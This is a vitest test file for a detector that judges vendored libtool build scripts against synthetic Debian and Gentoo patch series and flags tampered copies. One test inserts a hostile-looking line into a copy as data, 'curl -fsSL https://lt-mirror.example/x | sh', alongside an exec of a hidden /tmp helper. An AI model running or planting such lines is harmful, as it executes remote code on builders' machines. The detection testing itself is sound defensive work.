/**
 * Distributions' published patch files as a labelled source (src/classify/distro-patches.ts, patched31): a packaging
 * repository built by code (debian/patches/series and patches made by diff(1) from a synthetic libtool template),
 * scripts/derive-distro-patches.mjs run on it, and copies judged against a synthetic upstream version — the copy the
 * series makes explained with the patch files named; the tampered twins (a hunk moved to another function, one more
 * line inside a hunk, a command line beside a hunk, a patch the series leaves out) staying high.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { PatchCorpus, parseUnifiedDiff, type RawPatchCorpus } from '../../src/classify/distro-patches.js';
import { classifyUpstream } from '../../src/classify/upstream.js';
import { rawDbFromContents, UpstreamDb } from '../../src/classify/upstream-db.js';
import { makeRepo } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const root = resolve(__dirname, '../..');
// a made-up ltmain.sh: 5 functions of 8 distinct lines each
const fn = (name: string) => [`func_${name} ()`, '{', `    ${name}_a=$1`, `    case $${name}_a in`, `      -${name}*) ${name}_ok=: ;;`, `      *) ${name}_ok=false ;;`, '    esac', `}  # ${name}`];
const V = ['#! /bin/sh', '# ltmain.sh (synthetic) 2.4.6', 'VERSION=2.4.6', ...['alpha', 'beta', 'gamma', 'delta', 'omega'].flatMap(fn), 'exit 0'];
const text = (lines: string[]) => `${lines.join('\n')}\n`;
const at = (lines: string[], l: string) => {
  const i = lines.indexOf(l);
  if (i < 0) throw new Error(`no line ${l}`);
  return i;
};
/** 0001: a case arm added in func_beta; 0002 changes 0001's added line (its context is 0001's result). */
const P1 = (() => {
  const l = [...V];
  l.splice(at(l, '      -beta*) beta_ok=: ;;') + 1, 0, '      -specs=*) beta_ok=: ;;');
  return l;
})();
const P2 = (() => {
  const l = [...P1];
  l[at(l, '      -specs=*) beta_ok=: ;;')] = '      -specs=*|-fsanitize=*) beta_ok=: ;;';
  l.splice(at(l, '    delta_a=$1') + 1, 0, '    # Debian: keep delta quiet', '    delta_quiet=:');
  return l;
})();
/** 0003, left out of the series (commented out): a line in func_gamma. */
const P3 = (() => {
  const l = [...P2];
  l.splice(at(l, '    gamma_a=$1') + 1, 0, '    gamma_fast=:');
  return l;
})();

let corpus: PatchCorpus;
const db = new UpstreamDb(rawDbFromContents([{ name: 'ltmain.sh', project: 'libtool', content: text(V), commit: '1'.repeat(40), date: '2015-02-15', tag: 'v2.4.6' }]));

beforeAll(() => {
  const dir = tempDir('distdiff-patches-');
  const tree = (lines: string[]) => {
    const d = join(dir, `t${Math.random().toString(36).slice(2)}`, 'build-aux');
    execFileSync('mkdir', ['-p', d]);
    writeFileSync(join(d, 'ltmain.in'), text(lines));
    return d.slice(0, -'/build-aux'.length);
  };
  // a patch as quilt writes it: diff -u between two trees, a/ and b/ names
  const diffU = (from: string[], to: string[]) => {
    const a = tree(from);
    const b = tree(to);
    try {
      execFileSync('diff', ['-u', '--label', 'a/build-aux/ltmain.in', '--label', 'b/build-aux/ltmain.in', join(a, 'build-aux/ltmain.in'), join(b, 'build-aux/ltmain.in')]);
    } catch (e) {
      return (e as { stdout: Buffer }).stdout.toString();
    }
    throw new Error('no difference');
  };
  const repo = makeRepo(join(dir, 'libtool-pkg'));
  repo.commit(
    {
      'debian/changelog': 'libtool (2.4.6-9) unstable; urgency=medium\n',
      'debian/patches/series': '0001-specs.patch\n0002-fsanitize.patch\n# 0003-gamma.patch\n',
      'debian/patches/0001-specs.patch': `Description: pass -specs\n\n${diffU(V, P1)}`,
      'debian/patches/0002-fsanitize.patch': `Description: pass -fsanitize\n\n${diffU(P1, P2)}`,
      'debian/patches/0003-gamma.patch': diffU(P2, P3),
    },
    'debian 2.4.6-9',
    '2016-01-02T10:00:00Z',
  );
  const out = join(dir, 'patches.json');
  execFileSync(process.execPath, [join(root, 'scripts/derive-distro-patches.mjs'), '--out', out, '--date', '2026-12-02', '--git', repo.dir, 'HEAD', 'Demo libtool 2.4.6-9'], { stdio: ['ignore', 'pipe', 'pipe'] });
  corpus = new PatchCorpus(JSON.parse(readFileSync(out, 'utf8')) as RawPatchCorpus);
}, 60_000);

const judge = (lines: string[], c: PatchCorpus | null = corpus) => classifyUpstream('build-aux/ltmain.sh', Buffer.from(text(lines)), db, { patches: c, hunks: null });

describe('deriving the corpus from a packaging repository', () => {
  it('records the hunks of the patches the series applies, as operations and line hashes, labelled by patch file', () => {
    expect(corpus.raw.sources).toEqual(['Demo libtool 2.4.6-9 debian/patches/0001-specs.patch', 'Demo libtool 2.4.6-9 debian/patches/0002-fsanitize.patch']);
    expect(corpus.raw.hunks.map((h) => [h.name, h.source, h.ops])).toEqual([
      ['ltmain.sh', 0, '   +   '],
      ['ltmain.sh', 1, '   -+   '],
      ['ltmain.sh', 1, '   ++   '],
    ]);
    // no line of the patches is stored
    expect(JSON.stringify(corpus.raw)).not.toContain('fsanitize=');
  });

  it('--keep an existing corpus and --patch-git one patch file of a repository (gnulib-tool\'s build-aux/test-driver.diff): its hunks added as a series of their own', () => {
    const dir = tempDir('distdiff-patchgit-');
    const r = makeRepo(join(dir, 'tool'));
    // one patch file of a tool's repository: one hunk of func_gamma
    const lines = [...V];
    lines.splice(at(lines, '    gamma_a=$1') + 1, 0, '    gamma_sh=:');
    execFileSync('mkdir', ['-p', join(dir, 'a/build-aux'), join(dir, 'b/build-aux')]);
    writeFileSync(join(dir, 'a/build-aux/ltmain.sh'), text(V));
    writeFileSync(join(dir, 'b/build-aux/ltmain.sh'), text(lines));
    const patch = spawnSync('diff', ['-u', 'a/build-aux/ltmain.sh', 'b/build-aux/ltmain.sh'], { cwd: dir, encoding: 'utf8' }).stdout;
    expect(patch).toContain('+    gamma_sh=:');
    r.commit({ 'build-aux/ltmain.diff': patch }, 'ltmain.diff', '2021-08-08T10:00:00Z');
    const kept = join(dir, 'kept.json');
    writeFileSync(kept, JSON.stringify(corpus.raw));
    const out = join(dir, 'out.json');
    execFileSync(process.execPath, [join(root, 'scripts/derive-distro-patches.mjs'), '--out', out, '--date', '2026-12-03', '--keep', kept, '--patch-git', r.dir, 'HEAD', 'build-aux/ltmain.diff', 'Demo tool (ltmain.diff)'], { stdio: ['ignore', 'pipe', 'pipe'] });
    const more = new PatchCorpus(JSON.parse(readFileSync(out, 'utf8')) as RawPatchCorpus);
    expect(more.raw.sources).toEqual([...corpus.raw.sources, 'Demo tool (ltmain.diff) build-aux/ltmain.diff']);
    expect(more.raw.hunks.slice(0, corpus.raw.hunks.length)).toEqual(corpus.raw.hunks);
    expect(more.raw.hunks.slice(corpus.raw.hunks.length).map((h) => [h.name, h.source, h.ops])).toEqual([['ltmain.sh', 2, '   +   ']]);
    expect(judge(lines, more)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { patches: [{ source: 'Demo tool (ltmain.diff) build-aux/ltmain.diff', lines: [at(lines, '    gamma_sh=:') + 1] }] } });
    expect(judge(lines)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // a patch adding more lines than the few a copy may add unaccounted (openSUSE's test-driver patch: 16) is its own evidence
    const big = [...V];
    big.splice(at(big, '    omega_a=$1') + 1, 0, ...Array.from({ length: 12 }, (_, i) => `    omega_opt${i}=$${i + 2}`));
    execFileSync('mkdir', ['-p', join(dir, 'c/build-aux'), join(dir, 'd/build-aux')]);
    writeFileSync(join(dir, 'c/build-aux/ltmain.sh'), text(V));
    writeFileSync(join(dir, 'd/build-aux/ltmain.sh'), text(big));
    const bigPatch = join(dir, 'big.patch');
    writeFileSync(bigPatch, spawnSync('diff', ['-u', 'c/build-aux/ltmain.sh', 'd/build-aux/ltmain.sh'], { cwd: dir, encoding: 'utf8' }).stdout);
    const out2 = join(dir, 'out2.json');
    execFileSync(process.execPath, [join(root, 'scripts/derive-distro-patches.mjs'), '--out', out2, '--date', '2026-12-03', '--patch-file', bigPatch, 'Demo distro tool 1.0'], { stdio: ['ignore', 'pipe', 'pipe'] });
    const bigCorpus = new PatchCorpus(JSON.parse(readFileSync(out2, 'utf8')) as RawPatchCorpus);
    expect(bigCorpus.raw.sources).toEqual(['Demo distro tool 1.0 big.patch']);
    expect(judge(big, bigCorpus)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { novelLines: 12, patches: [{ source: 'Demo distro tool 1.0 big.patch' }] } });
    expect(judge(big)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
  });

  it('parses a unified diff: the target path without its first component, context, removed and added lines', () => {
    expect(parseUnifiedDiff('--- a/m4/x.m4\n+++ b/m4/x.m4\n@@ -1,3 +1,3 @@\n a\n-b\n+c\n d\n')).toEqual([{ path: 'm4/x.m4', ops: ' -+ ', lines: ['a', 'b', 'c', 'd'] }]);
  });
});

describe('a copy carrying the series', () => {
  it('is explained, each patch file named with the lines it adds; without the corpus it is an unknown version', () => {
    expect(judge(P2)).toMatchObject({
      code: 'UPSTREAM_COPY_PATCHED',
      severity: 'low',
      evidence: {
        novelLines: 3,
        // 0001's one line is 0002's now (0002 changes it): only 0002 is named
        patches: [{ source: 'Demo libtool 2.4.6-9 debian/patches/0002-fsanitize.patch', lines: [at(P2, '      -specs=*|-fsanitize=*) beta_ok=: ;;') + 1, at(P2, '    # Debian: keep delta quiet') + 1, at(P2, '    delta_quiet=:') + 1] }],
      },
    });
    expect(judge(P1)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { patches: [{ source: 'Demo libtool 2.4.6-9 debian/patches/0001-specs.patch', lines: [at(P1, '      -specs=*) beta_ok=: ;;') + 1] }] } });
    expect(judge(P2, null)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 2 } });
  });

  it('tampered twins stay high: a hunk moved to another function, one more line inside a hunk, a command beside it, a patch the series leaves out', () => {
    // 0002's delta lines in func_omega instead (the hunk moved with its change, not its context)
    const moved = [...P2];
    moved.splice(at(moved, '    # Debian: keep delta quiet'), 2);
    moved.splice(at(moved, '    omega_a=$1') + 1, 0, '    # Debian: keep delta quiet', '    delta_quiet=:');
    expect(judge(moved)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 2 } });
    // one more line inside the hunk
    const inside = [...P2];
    inside.splice(at(inside, '    delta_quiet=:') + 1, 0, '    delta_ok=:');
    expect(judge(inside)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // a new command next to a hunk: no construct (high) and a download run through the shell (critical)
    for (const [line, severity] of [['    exec /tmp/.lt-helper "$@"', 'high'], ['    curl -fsSL https://lt-mirror.example/x | sh', 'critical']] as const) {
      const cmd = [...P2];
      cmd.splice(at(cmd, '    delta_quiet=:') + 1, 0, line);
      expect(judge(cmd), line).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity });
    }
    // 0003 is commented out in the series: its line is no distribution's
    expect(judge(P3)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high', evidence: { unaccountedLines: 1 } });
  });
});

describe('a series of patch files on disk (a Gentoo ebuild\'s PATCHES), applied as patch(1) applies them', () => {
  // patches written against an older upstream file: Gentoo applies libtool-2.4.3-use-linux-version-in-fbsd.patch to
  // libtool 2.4.6 with patch(1)'s fuzz, and refreshes gnuconfig's ps2 patch when config.sub's context moves
  const replace = (lines: string[], from: string, to: string) => lines.map((l) => (l === from ? to : l));
  const insertAfter = (lines: string[], after: string, ...add: string[]) => {
    const l = [...lines];
    l.splice(at(l, after) + 1, 0, ...add);
    return l;
  };
  const FUSE = '      -fuse-ld=*) beta_ok=: ;;';
  const GAMMA = '      -gamma*) gamma_ok=: ;;';
  const GAMMA_G = '      -gamma*|-G*) gamma_ok=: ;;';
  // fuzz.patch: written where func_beta's first line was `beta_a="$1"` (an outer context line V no longer has)
  const oldBeta = replace(V, '    beta_a=$1', '    beta_a="$1"');
  // refresh.patch: written where every line around func_gamma's arm was other (no context line V has)
  const oldGamma = replace(replace(replace(V, '    gamma_a=$1', '    gamma_a=${1-}'), '    case $gamma_a in', '    case "$gamma_a" in'), '      *) gamma_ok=false ;;', '      *) gamma_ok=no ;;');
  // adjacent.patch: written where the line right before the insertion differed (`beta_ok=true`)
  const oldAdjacent = replace(V, '      -beta*) beta_ok=: ;;', '      -beta*) beta_ok=true ;;');
  // brace.patch: replaces a `{` line, which every function of V has, with context V no longer has
  const oldBrace = replace(replace(V, 'func_delta ()', 'func_delta()'), '    delta_a=$1', '    delta_a="$1"');
  let dir: string;
  const patchFile = (name: string, from: string[], to: string[], context = 3) => {
    execFileSync('mkdir', ['-p', join(dir, name, 'a/build-aux'), join(dir, name, 'b/build-aux')]);
    writeFileSync(join(dir, name, 'a/build-aux/ltmain.in'), text(from));
    writeFileSync(join(dir, name, 'b/build-aux/ltmain.in'), text(to));
    const p = join(dir, `${name}.patch`);
    writeFileSync(p, spawnSync('diff', [`-U${context}`, 'a/build-aux/ltmain.in', 'b/build-aux/ltmain.in'], { cwd: join(dir, name), encoding: 'utf8' }).stdout);
    return p;
  };
  const derive = (...args: string[]) => {
    const out = join(dir, `c${Math.random().toString(36).slice(2)}.json`);
    execFileSync(process.execPath, [join(root, 'scripts/derive-distro-patches.mjs'), '--out', out, '--date', '2026-12-03', ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
    return new PatchCorpus(JSON.parse(readFileSync(out, 'utf8')) as RawPatchCorpus);
  };
  let series: PatchCorpus;
  let files: Record<string, string>;
  beforeAll(() => {
    dir = tempDir('distdiff-series-');
    files = {
      fuzz: patchFile('fuzz', oldBeta, insertAfter(oldBeta, '      -beta*) beta_ok=: ;;', FUSE)),
      refresh: patchFile('refresh', oldGamma, replace(oldGamma, GAMMA, GAMMA_G)),
      adjacent: patchFile('adjacent', oldAdjacent, insertAfter(oldAdjacent, '      -beta*) beta_ok=true ;;', '      -adj*) beta_ok=: ;;')),
      brace: patchFile('brace', oldBrace, oldBrace.map((l, i) => (l === '{' && oldBrace[i - 1] === 'func_delta()' ? '{ set -e' : l))),
    };
    series = derive('--series', 'Demo Gentoo libtool 2.4.6-r6', [files.fuzz, files.refresh, files.adjacent, files.brace].join(','));
  });

  it('--series labels each patch file "LABEL files/NAME", one series: a copy carrying two of its patches is explained by both', () => {
    expect(series.raw.sources).toEqual(['fuzz', 'refresh', 'adjacent', 'brace'].map((n) => `Demo Gentoo libtool 2.4.6-r6 files/${n}.patch`));
    const both = replace(insertAfter(V, '      -beta*) beta_ok=: ;;', FUSE), GAMMA, GAMMA_G);
    expect(judge(both, series)).toMatchObject({
      code: 'UPSTREAM_COPY_PATCHED',
      severity: 'low',
      evidence: {
        patches: [
          { source: 'Demo Gentoo libtool 2.4.6-r6 files/fuzz.patch', lines: [at(both, FUSE) + 1] },
          { source: 'Demo Gentoo libtool 2.4.6-r6 files/refresh.patch', lines: [at(both, GAMMA_G) + 1] },
        ],
      },
    });
    // the same two patch files given one by one (--patch-file) are two series of their own: neither accounts for both lines
    const apart = derive('--patch-file', files.fuzz, 'Demo one', '--patch-file', files.refresh, 'Demo two');
    expect(judge(both, apart)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
  });

  it('a hunk whose outer context line changed upstream applies with fuzz; a hunk whose changed line stands once applies by it alone', () => {
    expect(judge(insertAfter(V, '      -beta*) beta_ok=: ;;', FUSE), series)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { patches: [{ source: 'Demo Gentoo libtool 2.4.6-r6 files/fuzz.patch' }] } });
    expect(judge(replace(V, GAMMA, GAMMA_G), series)).toMatchObject({ code: 'UPSTREAM_COPY_PATCHED', severity: 'low', evidence: { patches: [{ source: 'Demo Gentoo libtool 2.4.6-r6 files/refresh.patch' }] } });
  });

  it('tampered twins stay high: a context line next to the insertion differs, a replaced line the file has several times, the fuzzed line elsewhere', () => {
    // the line before adjacent.patch's insertion is not the patch's: patch(1)'s fuzz never drops it
    expect(judge(insertAfter(V, '      -beta*) beta_ok=: ;;', '      -adj*) beta_ok=: ;;'), series)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // brace.patch replaces a `{` line: V has five, so its changed line alone anchors nothing
    const braced = V.map((l, i) => (l === '{' && V[i - 1] === 'func_delta ()' ? '{ set -e' : l));
    expect(judge(braced, series)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // a hunk with 2 context lines each side keeps one of each under fuzz: with both lines before the insertion
    // rewritten upstream it anchors on nothing before it and is not applied (trailing context alone never places it)
    const oldDelta = replace(replace(V, '    delta_a=$1', '    delta_a=${1}'), '    case $delta_a in', '    case "$delta_a" in');
    const two = derive('--series', 'Demo two-line context', patchFile('two', oldDelta, insertAfter(oldDelta, '    case "$delta_a" in', '      -Wl,*) delta_ok=: ;;'), 2));
    expect(two.raw.hunks.map((h) => h.ops)).toEqual(['  +  ']);
    expect(judge(insertAfter(V, '    case $delta_a in', '      -Wl,*) delta_ok=: ;;'), two)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
    // fuzz.patch's line in func_omega: not where the fuzzed hunk anchors
    expect(judge(insertAfter(V, '      -omega*) omega_ok=: ;;', FUSE), series)).toMatchObject({ code: 'UPSTREAM_COPY_UNKNOWN_VERSION', severity: 'high' });
  });
});
